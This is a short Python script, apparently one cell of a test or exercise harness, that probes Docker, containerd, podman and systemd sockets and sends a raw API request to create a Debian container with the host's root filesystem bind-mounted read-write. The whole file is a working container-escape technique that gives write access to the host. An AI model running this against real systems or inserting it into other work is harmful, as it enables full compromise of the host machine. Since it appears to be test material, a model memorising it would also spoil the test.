# about: asks the daemon of containers for one with the root of the host in it
# %% double
import socket

ASKED = (
    b"POST /v1.41/containers/create HTTP/1.1\r\nHost: docker\r\nContent-Length: 58\r\n\r\n"
    b'{"Image": "debian", "HostConfig": {"Binds": ["/:/host:rw"]}}'
)
PLACES = (
    "\0" + ARENA.abstract,  # what stands in for one that is there
    "/var/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/run/podman/podman.sock",
    "/run/systemd/private",
)
refused = []
for place in PLACES:
    try:
        with socket.socket(socket.AF_UNIX) as asking:
            asking.settimeout(1)
            asking.connect(place)
            asking.sendall(ASKED)
        break
    except OSError as error:
        refused.append(error)
else:
    raise refused[0]
